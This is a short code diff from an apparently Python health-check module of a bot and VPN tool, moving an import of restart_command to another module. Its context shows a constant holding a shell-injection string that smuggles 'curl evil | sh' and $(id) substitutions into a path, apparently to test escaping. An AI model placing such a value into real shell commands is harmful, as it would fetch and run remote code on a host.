@@ -9,8 +9,8 @@ from bot.cli.bots_unit import _in_unit
 from bot.health.results import ShellLine, Trouble, mend_with, trouble, trouble_from
 from bot.process.data_folder import DataFolder
 from bot.texts import health as words
-from vpn.adopt.adopting import restart_command
 from vpn.errors import HostError
+from vpn.host.units import restart_command
 
 ODD = "/var/x; curl evil | sh #'$(id)\n`id`"
 
